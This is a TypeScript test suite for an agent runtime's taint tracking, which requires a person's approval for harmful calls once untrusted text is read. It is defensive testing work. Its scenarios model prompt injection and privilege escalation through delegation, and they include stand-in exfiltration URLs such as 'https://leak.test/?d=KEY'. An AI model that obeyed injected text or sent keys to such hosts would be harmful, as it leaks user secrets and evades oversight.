// Taint: after a model has read untrusted text, a person must approve each call that could do harm.

import { describe, expect } from "vitest";
import { z } from "zod";
import { effects } from "../../../test/support/oracle.ts";
import {
  charge,
  delegate,
  familyOf,
  payloadsOf,
  resultsRead,
  roles,
  scenario,
  stamp,
  turns,
} from "../../../test/support/scenario.ts";
import { controlled } from "../../../test/support/steps.ts";
import { fetches, fetchTool, hear, hearTool, ORDER, STRANGER } from "../../../test/support/stranger.ts";
import { openApprovalIds, type World, type WorldOptions } from "../../../test/support/world.ts";
import type { Payload } from "../../journal/events.ts";
import type { PatternKey } from "../../patterns/declarations/facts.ts";
import { defineTool } from "../../tools/tool.ts";
import { decideApproval } from "../commands/person-commands.ts";

const ALLOWED = "permissions: { allow: [charge, stamp, hear, WebFetch, delegate] }\n";
const TAINT = `taint ask: words from ${STRANGER} came in`;
const stranger = { more: [hearTool], config: ALLOWED };

const proposals = async (world: World, runId: string): Promise<Payload<"TOOL_PROPOSED">[]> =>
  payloadsOf(await world.events(runId), "TOOL_PROPOSED");

/** The approval requests of each run in a tree, with their reasons. */
async function approvalRequests(world: World, root: string): Promise<string[]> {
  const runs = await familyOf(world, root);
  const all = await Promise.all(runs.map(({ id }) => proposals(world, id)));
  return all.flatMap((calls, index) =>
    calls
      .filter(({ verdict }) => verdict === "ask")
      .map(({ name, rule }) => `${runs[index]!.agent} ${name}: ${rule}`),
  );
}

const yes = (scope?: "run") => ({ decision: "approve" as const, ...(scope ? { scope } : {}) });

async function decide(world: World, runId: string, decision: Parameters<typeof decideApproval>[1]) {
  const [id] = await openApprovalIds(world, runId);
  await decideApproval(id!, decision, "maria", world.runtime.people);
}

const scrapeTool = defineTool({
  name: "scrape",
  description: "Reads a long page.",
  input: z.object({}),
  effect: "read",
  reaches: [],
  execute: async () => ({ output: "a long page", full: `line 1\n${ORDER}`, untrusted: STRANGER }),
});

scenario(
  "[A66] each part of a saved output that Read or Grep shows is marked as untrusted, as the output was",
  {
    more: [scrapeTool],
    agent: "tools: [Read, Grep, scrape]",
    script: turns(
      { calls: [{ tool: "scrape", input: {} }] },
      { calls: [{ tool: "Read", input: { path: "output:m1.0", offset: 2 } }] },
      { calls: [{ tool: "Grep", input: { path: "output:m1.0", pattern: "." } }] },
    ),
  },
  async (world) => {
    const runId = await world.run("go");
    await world.settled(runId);
    const [, ...parts] = payloadsOf(await world.events(runId), "TOOL_RESULT");
    expect(parts).toHaveLength(2);
    for (const { output, untrusted } of parts) {
      expect(output).toMatch(/^<untrusted-(\w+) source=.*>\n[\s\S]*\n<\/untrusted-\1>$/);
      expect(output).toContain(ORDER);
      expect(untrusted).toBe(STRANGER);
    }
  },
);

describe("one run", () => {
  scenario(
    "[A66] [A61] even if a secret in .env is a word that Cadre's events contain, the taint check applies",
    {
      ...stranger,
      files: { ".env": "A_TOKEN=untrusted\nB_TOKEN=ancestors\nC_TOKEN=AGENT_THOUGHT\nD_TOKEN=cadre-test\n" },
      script: turns({ calls: [hear] }, { calls: [charge("1")] }),
    },
    async (world) => {
      const runId = await world.run("go");
      expect((await world.settled(runId)).waitingOn?.kind).toBe("approval");
      expect((await proposals(world, runId)).at(-1)).toMatchObject({ verdict: "ask", rule: TAINT });
      expect(effects(world.oracle)).toEqual([]);
    },
  );

  scenario(
    "[A66] [A18] a rule allows an unsafe call only until untrusted input arrives; afterwards a person must approve",
    {
      ...stranger,
      script: turns(
        { calls: [charge("1")] },
        { calls: [hear] },
        { calls: [stamp("2")] },
        { calls: [charge("3")] },
      ),
    },
    async (world) => {
      const runId = await world.run("go");
      const state = await world.settled(runId);
      expect(state.waitingOn?.kind).toBe("approval");
      expect(effects(world.oracle).map(({ input }) => input)).toEqual(["1", "2"]);
      const last = (await proposals(world, runId)).at(-1);
      expect(last).toMatchObject({ verdict: "ask", rule: TAINT, untrusted: [STRANGER] });
      await decide(world, runId, { decision: "reject", note: "no" });
      await world.seen(runId, "RUN_COMPLETED");
      expect(effects(world.oracle)).toHaveLength(2);
    },
  );

  scenario(
    "[A66] after taint, an approval covers one call and a person's grant covers later calls; an allow rule in a file covers none",
    {
      ...stranger,
      script: turns(
        { calls: [hear] },
        { calls: [charge("1")] },
        { calls: [charge("2")] },
        { calls: [charge("3")] },
      ),
    },
    async (world) => {
      const runId = await world.run("go", { permissions: { allow: ["charge"], ask: [], deny: [] } });
      await world.settled(runId);
      await decide(world, runId, yes());
      await world.seen(runId, "TOOL_STARTED");
      while ((await openApprovalIds(world, runId))[0] !== `${runId}:m3.0`) await world.settled(runId);
      await decide(world, runId, yes("run"));
      await world.seen(runId, "RUN_COMPLETED");
      const verdicts = (await proposals(world, runId)).map(({ rule }) => rule);
      expect(verdicts).toEqual(["project allow hear", TAINT, TAINT, "person grant charge"]);
    },
  );

  scenario(
    "[A66] `taint: off` switches the taint check off",
    {
      ...stranger,
      config: `${ALLOWED}taint: off\n`,
      script: turns({ calls: [hear] }, { calls: [charge("1")] }),
    },
    async (world) => {
      const runId = await world.run("go");
      await world.seen(runId, "RUN_COMPLETED");
      expect(effects(world.oracle)).toHaveLength(1);
    },
  );

  scenario(
    "[A66] an unattended run denies the call if the project's policy is to reject",
    {
      ...stranger,
      config: `${ALLOWED}approvals: { unattended: reject }\n`,
      script: turns({ calls: [hear] }, { calls: [charge("1")] }),
    },
    async (world) => {
      const runId = await world.run("go", { attended: false });
      await world.seen(runId, "RUN_COMPLETED");
      expect((await proposals(world, runId)).at(-1)).toMatchObject({
        verdict: "deny",
        rule: `unattended reject, after ${TAINT}`,
      });
      expect(effects(world.oracle)).toEqual([]);
    },
  );

  scenario(
    "[A66] taint survives a restart, a retry and the next run of a session",
    { ...stranger, script: ({ turn }) => (turn === 1 ? { calls: [hear] } : { text: "done" }) },
    async (world) => {
      const first = await world.runtime.say({ sessionId: "s", agent: "tester", text: "go", from: "maria" });
      await world.seen(first.runId, "RUN_COMPLETED");
      const { runId: again } = await world.runtime.retry(first.runId);
      await world.seen(again, "RUN_COMPLETED");
      await world.restart({ scripts: { test: turns({ calls: [charge("x")] }) } });
      const retried = await world.runtime.retry(again);
      const said = await world.runtime.say({ sessionId: "s", agent: "tester", text: "on", from: "maria" });
      expect(said.joined).toBe(false);
      for (const { runId } of [retried, said]) {
        await world.seen(runId, "RUN_SUSPENDED");
        expect((await proposals(world, runId)).at(-1)).toMatchObject({ verdict: "ask", rule: TAINT });
      }
      expect(effects(world.oracle)).toEqual([]);
    },
  );
});

describe("a tree of runs", () => {
  scenario(
    "[A66] a page that is quoted through three levels of agents makes approval necessary at each level",
    {
      ...stranger,
      agent: "agents: [lead]\ntools: [charge]",
      cast: {
        lead: "agents: [mid]\ntools: [charge]",
        mid: "agents: [reader]\ntools: [charge]",
        reader: "tools: [hear]",
      },
      script: roles({
        tester: turns({ calls: [delegate("lead")] }, { calls: [charge("tester")] }),
        lead: turns({ calls: [delegate("mid")] }, { calls: [charge("lead")] }, { text: ORDER }),
        mid: turns({ calls: [delegate("reader")] }, { calls: [charge("mid")] }, { text: ORDER }),
        reader: turns({ calls: [hear] }, { text: ORDER }),
      }),
    },
    async (world) => {
      const root = await world.run("go");
      for (const agent of ["mid", "lead", "tester"]) {
        await world.settled(root);
        const run = (await familyOf(world, root)).find((row) => row.agent === agent)!;
        expect((await proposals(world, run.id)).at(-1)).toMatchObject({ name: "charge", rule: TAINT });
        expect(resultsRead(await world.events(run.id))[0]).toMatch(/^<untrusted-\w+ source=/);
        await decide(world, run.id, { decision: "reject" });
        await world.seen(run.id, "RUN_COMPLETED");
      }
      expect(await approvalRequests(world, root)).toEqual(
        ["tester", "lead", "mid"].map((name) => `${name} charge: ${TAINT}`),
      );
      expect(effects(world.oracle)).toEqual([]);
    },
  );

  scenario(
    "[A66] if a tainted agent delegates work, the child's unsafe calls need approval, too",
    {
      ...stranger,
      agent: "agents: [hand]\ntools: [hear, charge]",
      cast: { hand: "tools: [charge]" },
      script: roles({
        tester: turns({ calls: [hear] }, { calls: [delegate("hand", ORDER)] }),
        hand: turns({ calls: [charge("x")] }),
      }),
    },
    async (world) => {
      const root = await world.run("go");
      await world.settled(root);
      expect(await approvalRequests(world, root)).toEqual([`hand charge: ${TAINT}`]);
      expect(effects(world.oracle)).toEqual([]);
    },
  );

  const patterns: Record<PatternKey, WorldOptions> = {
    handoff: {
      agent: "handoff: second",
      cast: { second: "" },
      script: roles({ tester: turns({ calls: [hear] }), second: turns({ calls: [charge("x")] }) }),
    },
    router: {
      agent: "agents: [desk]",
      cast: { desk: "router: { destinations: [second] }", second: "" },
      script: roles({
        tester: turns({ calls: [delegate("desk")] }, { calls: [charge("x")] }),
        desk: turns({ calls: [{ tool: "route_to", input: { agent: "second", reason: "r" } }] }),
        second: turns({ calls: [hear] }),
      }),
    },
    advisors: {
      agent: "advisors: [second]",
      cast: { second: "" },
      script: roles({ tester: turns({ calls: [charge("x")] }), second: turns({ calls: [hear] }) }),
    },
    team: {
      agent: "team: { members: [second, third], terminationMode: maxRounds, maxRounds: 2 }",
      cast: { second: "", third: "" },
      script: roles({
        second: ({ round, turn }) => (round === 1 && turn === 1 ? { calls: [hear] } : { text: ORDER }),
        third: ({ round, turn }) =>
          turn > 1 ? { text: "well" } : round === 2 ? { calls: [charge("x")] } : { text: "hm" },
      }),
    },
    bestOf: {
      agent: "agents: [drafter]",
      cast: { drafter: "bestOf: { n: 2, judge: third }", third: "" },
      script: roles({
        tester: turns({ calls: [delegate("drafter")] }, { calls: [charge("x")] }),
        drafter: turns({ calls: [hear] }),
        third: () => ({ report: { summary: "the first", output: { draft: 1, reason: "r" } } }),
      }),
    },
    steps: {
      ...controlled(
        `yield* delegate("second", "one"); return yield* tool("charge", { what: "x" });`,
        "agents: [second]",
      ),
      cast: { second: "" },
      script: roles({ second: turns({ calls: [hear] }) }),
    },
  };
  for (const [pattern, options] of Object.entries(patterns)) {
    scenario(
      `[A66] taint passes through ${pattern} together with its source`,
      { ...stranger, ...options },
      async (world) => {
        const root = await world.run("go");
        await world.settled(root);
        const questions = await approvalRequests(world, root);
        expect(questions).toHaveLength(1);
        expect(questions[0]).toMatch(new RegExp(`^(tester|second|third) charge: ${TAINT}$`));
        expect(effects(world.oracle)).toEqual([]);
      },
    );
  }

  scenario(
    "[A66] a message from a tainted run taints the receiving run, whether that run was already running or is started by the message",
    {
      ...stranger,
      agent: "tools: [hear, charge, send_message]",
      cast: { worker: "tools: [charge]" },
      script: roles({
        tester: turns(
          { calls: [hear] },
          { calls: [{ tool: "send_message", input: { to: "worker", message: ORDER } }] },
        ),
        worker: turns({ calls: [charge("x")] }),
      }),
    },
    async (world) => {
      const runId = await world.run("go", { sessionId: "s" });
      await world.seen(runId, "RUN_COMPLETED");
      const { runs } = await world.runtime.store.runs.list({ agent: "worker" });
      await world.settled(runs[0]!.id);
      expect(await approvalRequests(world, runs[0]!.id)).toEqual([`worker charge: ${TAINT}`]);
      await world.run("go", { sessionId: "s" }).then((next) => world.seen(next, "RUN_COMPLETED"));
      const told = payloadsOf(await world.events(runs[0]!.id), "CONTEXT_ADDED");
      expect(told.map(({ source, untrusted }) => [source, untrusted])).toEqual([["agent", [STRANGER]]]);
    },
  );
});

describe("hosts that a tainted run can contact", () => {
  const urls: string[] = [];
  const reader = (...calls: string[]): WorldOptions => ({
    more: [fetchTool(urls)],
    config: ALLOWED,
    script: turns(...calls.map((url) => ({ calls: [fetches(url)] }))),
  });
  const cases: [string, string, string[], string | undefined][] = [
    [
      "if a page sends the agent to another host, approval is needed",
      "look around",
      ["https://evil.test/", "https://leak.test/?d=KEY"],
      "leak.test",
    ],
    [
      "another port counts as another host",
      "look around",
      ["https://evil.test/", "https://evil.test:8443/"],
      "evil.test:8443",
    ],
    [
      "a host name before an @ does not count",
      "see https://docs.test",
      ["https://docs.test/", "https://docs.test@leak.test/"],
      "leak.test",
    ],
    [
      "a subdomain counts as another host",
      "see https://docs.test",
      ["https://docs.test/", "https://key.docs.test/"],
      "key.docs.test",
    ],
    [
      "a file name in the task is no host",
      "mend README.md",
      ["https://docs.test/", "https://readme.md/"],
      "readme.md",
    ],
    [
      "an address that cannot be parsed needs approval",
      "look around",
      ["https://docs.test/", "leak"],
      "its host",
    ],
    [
      "a host that the person named needs no approval",
      "see https://docs.test/a, and <https://more.test>.",
      ["https://docs.test/", "https://MORE.test/b"],
      undefined,
    ],
    [
      "[30.5] a fetch from a host that only the model named needs approval again after the first fetch",
      "look around",
      ["https://docs.test/", "https://docs.test/b?c=1"],
      "docs.test",
    ],
  ];
  for (const [title, task, pages, isNew] of cases) {
    scenario(`[A46] after a page was read: ${title}`, reader(...pages), async (world) => {
      urls.length = 0;
      const runId = await world.run(task);
      const state = await world.settled(runId);
      const last = (await proposals(world, runId)).at(-1)!;
      if (isNew === undefined) {
        expect(state.status).toBe("completed");
        expect(urls).toEqual(pages);
        return;
      }
      expect(last.rule).toMatch(/^taint ask: words from https:\/\/\w+\.test came in, and /);
      expect(last.rule).toContain(`and ${isNew} is new`);
      expect(urls).toEqual(pages.slice(0, 1));
    });
  }

  scenario(
    "[A46] an approval covers one page, and a grant covers the page's host",
    {
      more: [fetchTool(urls)],
      config: ALLOWED,
      script: turns(
        ...["docs.test/", "a.test/1", "a.test/2", "a.test/3", "b.test/"].map((page) => ({
          calls: [fetches(`https://${page}`)],
        })),
      ),
    },
    async (world) => {
      urls.length = 0;
      const runId = await world.run("look around");
      for (const [id, scope] of [["m2.0"], ["m3.0", "run"]] as const) {
        while ((await openApprovalIds(world, runId))[0] !== `${runId}:${id}`) await world.settled(runId);
        await decide(world, runId, yes(scope));
      }
      while ((await openApprovalIds(world, runId))[0] !== `${runId}:m5.0`) await world.settled(runId);
      const rules = (await proposals(world, runId)).map(({ rule }) =>
        rule.replace(/words from \S+ (and . more )?/, ""),
      );
      expect(rules).toEqual([
        "project allow WebFetch",
        "taint ask: came in, and a.test is new",
        "taint ask: came in, and a.test is new",
        "person grant WebFetch(https://a.test/**)",
        "taint ask: came in, and b.test is new",
      ]);
      expect(urls).toHaveLength(4);
    },
  );

  scenario(
    "[A46] a child of a tainted run can use the hosts that its parent used, but not a new host that its task names",
    {
      more: [fetchTool(urls)],
      config: ALLOWED,
      agent: "agents: [reader]\ntools: [WebFetch]",
      cast: { reader: "tools: [WebFetch]" },
      script: roles({
        tester: turns(
          { calls: [fetches("https://docs.test/")] },
          { calls: [delegate("reader", "read https://leak.test")] },
        ),
        reader: turns(
          { calls: [fetches("https://docs.test/2")] },
          { calls: [fetches("https://leak.test/?d=KEY")] },
        ),
      }),
    },
    async (world) => {
      urls.length = 0;
      const root = await world.run("start at https://docs.test/");
      await world.settled(root);
      expect(await approvalRequests(world, root)).toEqual([
        "reader WebFetch: taint ask: words from https://docs.test came in, and leak.test is new",
      ]);
      expect(urls).toEqual(["https://docs.test/", "https://docs.test/2"]);
    },
  );
});

describe("[A71] [30.5] fetching from a host that no person named, in a run that has read nothing untrusted", () => {
  const urls: string[] = [];
  const asked = async (world: World, task: string): Promise<string[]> => {
    urls.length = 0;
    const root = await world.run(task);
    await world.settled(root);
    return approvalRequests(world, root);
  };

  scenario(
    "the default policy asks, unless a person's message or task contains the host",
    {
      more: [fetchTool(urls)],
      script: turns(
        { calls: [fetches("https://docs.test/a")] },
        { calls: [fetches("https://leak.test/?d=KEY")] },
      ),
    },
    async (world) => {
      expect(await asked(world, "see https://docs.test, and not `leak.test`")).toEqual([
        "tester WebFetch: taint ask: words from https://docs.test came in, and leak.test is new",
      ]);
      expect(urls).toEqual(["https://docs.test/a"]);
    },
  );

  scenario(
    "a host in a child's task still asks, because a model wrote the task",
    {
      more: [fetchTool(urls)],
      agent: "agents: [reader]\ntools: []",
      cast: { reader: "tools: [WebFetch]" },
      script: roles({
        tester: turns({ calls: [delegate("reader", "read https://leak.test")] }),
        reader: turns({ calls: [fetches("https://leak.test/?d=KEY")] }),
      }),
    },
    async (world) => {
      expect(await asked(world, "go")).toEqual([
        "reader WebFetch: default ask WebFetch: no person named leak.test",
      ]);
      expect(urls).toEqual([]);
    },
  );

  const read: string[] = [];
  for (const [title, input, answer, known] of [
    [
      "a person's pick among the model's answers",
      { choices: ["https://z.test/guide", "no"] },
      "https://z.test/guide",
      false,
    ],
    [
      "a pick that only begins with an address",
      { choices: ["https://z.test is good"] },
      "https://z.test is good",
      false,
    ],
    ["a person's own words", {}, "see https://z.test/guide", true],
  ] as const)
    scenario(
      `[17] ${title} ${known ? "makes a host known" : "makes no host known"}`,
      {
        more: [fetchTool(read)],
        script: turns(
          { calls: [{ tool: "AskUser", input: { question: "Which one?", ...input } }] },
          { calls: [fetches("https://z.test/x")] },
        ),
      },
      async (world) => {
        read.length = 0;
        const root = await world.run("go", { attended: true });
        await world.settled(root);
        await decide(world, root, { decision: "answer", answer });
        if (known) await world.seen(root, "RUN_COMPLETED");
        else while (!(await openApprovalIds(world, root))[0]?.endsWith(":m2.0")) await world.settled(root);
        expect((await world.state(root)).taint.hosts).toEqual(known ? ["z.test"] : []);
        expect(read).toEqual(known ? ["https://z.test/x"] : []);
      },
    );

  scenario(
    "approving one page of a host approves no other page of that host",
    {
      more: [fetchTool(urls)],
      script: turns({ calls: [fetches("https://a.test/1")] }, { calls: [fetches("https://a.test/?d=KEY")] }),
    },
    async (world) => {
      const root = await world.run("look around");
      await world.settled(root);
      await decide(world, root, yes());
      while ((await openApprovalIds(world, root))[0] !== `${root}:m2.0`) await world.settled(root);
      expect(urls).toEqual(["https://a.test/1"]);
    },
  );
});

describe("delegating to agents with more rights", () => {
  const escalationRule = (who: string) => `${TAINT}, and deployer has charge beyond what ${who} has`;
  const deployer = { deployer: "tools: [charge]" };

  const ways: Record<string, { options: WorldOptions; questions: string[] }> = {
    delegation: {
      options: {
        agent: "agents: [deployer]\ntools: [hear]",
        cast: deployer,
        script: roles({
          tester: turns({ calls: [hear] }, { calls: [delegate("deployer", "ship it")] }),
          deployer: turns({ calls: [charge("x")] }),
        }),
      },
      questions: [`deployer charge: ${TAINT}`],
    },
    "a delegate changes a file that the delegating agent could not change": {
      options: {
        config: "permissions: { allow: [hear, delegate, Write] }\n",
        agent: "agents: [writer]\ntools: [hear]",
        cast: { writer: "tools: [Write]" },
        script: roles({
          tester: turns({ calls: [hear] }, { calls: [delegate("writer", "write it down")] }),
          writer: turns({ calls: [{ tool: "Write", input: { path: "a.txt", content: "x" } }] }),
        }),
      },
      questions: [`writer Write: ${TAINT}, and the agent that chose this one has no Write`],
    },
    "a delegate's own delegate changes such a file": {
      options: {
        config: "permissions: { allow: [hear, delegate, Write] }\n",
        agent: "agents: [middle]\ntools: [hear]",
        cast: { middle: "agents: [writer]\ntools: [Write]", writer: "tools: [Write]" },
        script: roles({
          tester: turns({ calls: [hear] }, { calls: [delegate("middle")] }),
          middle: turns({ calls: [delegate("writer", "write it down")] }),
          writer: turns({ calls: [{ tool: "Write", input: { path: "a.txt", content: "x" } }] }),
        }),
      },
      questions: [`writer Write: ${TAINT}, and the agent that chose this one has no Write`],
    },
    "a router's choice": {
      options: {
        agent: "advisors: [reader]\nrouter: { destinations: [deployer, clerk] }",
        cast: { ...deployer, clerk: "tools: []", reader: "tools: [hear]" },
        script: roles({
          reader: turns({ calls: [hear] }, { text: ORDER }),
          tester: turns({ calls: [{ tool: "route_to", input: { agent: "deployer", reason: "r" } }] }),
          deployer: turns({ calls: [charge("x")] }),
        }),
      },
      questions: [`deployer charge: ${TAINT}`],
    },
    "a message": {
      options: {
        agent: "tools: [hear, send_message]",
        cast: deployer,
        script: roles({
          tester: turns(
            { calls: [hear] },
            { calls: [{ tool: "send_message", input: { to: "deployer", message: "ship it" } }] },
          ),
        }),
      },
      questions: [`tester send_message: ${escalationRule("tester")}`],
    },
    "a delegation of a wider command pattern": {
      options: {
        agent: "agents: [deployer]\ntools: [hear, 'Bash(npm test)']",
        cast: { deployer: "tools: ['Bash(npm *)']" },
        script: roles({
          tester: turns({ calls: [hear] }, { calls: [delegate("deployer")] }),
          deployer: turns({ calls: [{ tool: "Bash", input: { command: "npm publish" } }] }),
        }),
      },
      questions: [`deployer Bash: ${TAINT}`],
    },
    "the first unsafe call after a handoff": {
      options: {
        agent: "handoff: deployer\ntools: [hear]",
        cast: deployer,
        script: roles({ tester: turns({ calls: [hear] }), deployer: turns({ calls: [charge("x")] }) }),
      },
      questions: [`deployer charge: ${TAINT}`],
    },
  };
  for (const [way, { options, questions }] of Object.entries(ways)) {
    scenario(
      `[A67] after taint, a person must approve ${way} to an agent with more rights`,
      { ...stranger, ...options },
      async (world) => {
        const root = await world.run("go");
        await world.settled(root);
        expect(await approvalRequests(world, root)).toEqual(questions);
        expect(effects(world.oracle)).toEqual([]);
      },
    );
  }

  scenario(
    "[28.2] [A67] a tainted run may delegate without approval; the child's unsafe call asks once, or not at all under a permanent grant",
    {
      ...stranger,
      agent: "agents: [deployer, clerk]\ntools: [hear]",
      cast: { ...deployer, clerk: "tools: [hear]" },
      script: roles({
        tester: turns(
          { calls: [delegate("deployer")] },
          { calls: [hear] },
          { calls: [delegate("clerk")] },
          { calls: [delegate("deployer")] },
          { calls: [delegate("deployer")] },
        ),
        deployer: turns({ calls: [charge("x")] }),
      }),
    },
    async (world) => {
      const root = await world.run("go");
      await world.settled(root);
      const asked = await familyOf(world, root);
      expect(asked.map(({ agent }) => agent)).toEqual(["tester", "deployer", "clerk", "deployer"]);
      expect(await approvalRequests(world, root)).toEqual([`deployer charge: ${TAINT}`]);
      const [id] = await openApprovalIds(world, asked.at(-1)!.id);
      await decideApproval(id!, { decision: "approve", scope: "always" }, "maria", world.runtime.people);
      await world.seen(root, "RUN_COMPLETED");
      expect(await approvalRequests(world, root)).toHaveLength(1);
      expect(effects(world.oracle)).toHaveLength(3);
    },
  );

  scenario(
    "[A67] a router cannot choose an agent that its file does not list",
    {
      ...stranger,
      agent: "advisors: [reader]\nrouter: { destinations: [clerk] }",
      cast: { ...deployer, clerk: "tools: []", reader: "tools: [hear]" },
      script: roles({
        reader: turns({ calls: [hear] }, { text: ORDER }),
        tester: () => ({ calls: [{ tool: "route_to", input: { agent: "deployer", reason: "r" } }] }),
      }),
    },
    async (world) => {
      const root = await world.run("go");
      await world.seen(root, "RUN_FAILED");
      expect((await familyOf(world, root)).map(({ agent }) => agent)).not.toContain("deployer");
      expect(payloadsOf(await world.events(root), "TOOL_RESULT")[0]).toMatchObject({ outcome: "denied" });
    },
  );
});

for (const [name, repeat] of [
  ["a fork", (world: World, id: string) => world.runtime.fork(id, {})],
  ["a retry", (world: World, id: string) => world.runtime.retry(id)],
  [
    "a fork of a fork",
    async (world: World, id: string) => world.runtime.fork((await world.runtime.fork(id, {})).runId, {}),
  ],
  [
    "a fork with a message that names no host",
    (world: World, id: string) => world.runtime.fork(id, { edit: { message: "go on" } }),
  ],
] as const)
  scenario(
    `[A71] [30.5] ${name} of a child's run knows no host that only the child's task names`,
    {
      ...{ idle: true, agent: "agents: [reader]\ntools: []", cast: { reader: "tools: []" } },
      script: roles({
        tester: turns({ calls: [delegate("reader", "read https://leak.test")] }),
        reader: () => ({ text: "read" }),
      }),
    },
    async (world) => {
      const root = await world.run("see https://docs.test");
      await world.drive(root);
      const child = (await familyOf(world, root)).find(({ id }) => id !== root)!;
      await world.drive(child.id);
      await world.drive(root);
      const { runId } = await repeat(world, child.id);
      expect((await world.state(runId)).taint.hosts).toEqual(["docs.test"]);
      const again = await world.runtime.fork(root, {});
      expect((await world.state(again.runId)).taint.hosts).toEqual(["docs.test"]);
    },
  );

describe("[A75] [30.17] a stranger's folder: one that asks for trust and is not trusted", () => {
  const wishes = "permissions: { allow: [stamp] }\n";
  const files = { "notes.md": ORDER, "src/a.ts": "// notes\n" };
  const env = { CADRE_TRUST: "0", XDG_CONFIG_HOME: "/nonexistent" };
  /** The sources of untrusted text that the run has read after this call. */
  const sourcesAfter = async (world: World, task: string): Promise<string[]> => {
    const run = await world.run(task);
    await world.settled(run);
    return (await world.state(run)).taint.sources.map((source) =>
      source === world.folder ? "folder" : source,
    );
  };

  for (const [name, input] of [
    ["Read", { path: "notes.md" }],
    ["Grep", { pattern: "notes" }],
    ["Bash", { command: "cat notes.md" }],
    ["Bash", { command: "ls" }],
    ["Glob", { pattern: "**" }],
    ["LS", {}],
  ] as const)
    scenario(
      `the result of ${name} ${JSON.stringify(input)} taints the run`,
      {
        ...{ files, env, config: wishes },
        script: turns({ calls: [{ tool: name, input }] }),
      },
      async (world) => {
        expect(await sourcesAfter(world, "look")).toEqual(["folder"]);
      },
    );

  scenario(
    "a tool that shows no files does not taint the run",
    { files, env, config: wishes, script: turns({ calls: [{ tool: "TodoWrite", input: { todos: [] } }] }) },
    async (world) => {
      expect(await sourcesAfter(world, "look")).toEqual([]);
    },
  );

  scenario(
    "the files of a folder that asks for no trust do not taint the run",
    { files, env, script: turns({ calls: [{ tool: "Read", input: { path: "notes.md" } }] }) },
    async (world) => {
      expect(await sourcesAfter(world, "look")).toEqual([]);
    },
  );

  scenario(
    "the files of a trusted folder do not taint the run",
    { files, config: wishes, script: turns({ calls: [{ tool: "Read", input: { path: "notes.md" } }] }) },
    async (world) => {
      expect(await sourcesAfter(world, "look")).toEqual([]);
    },
  );
});
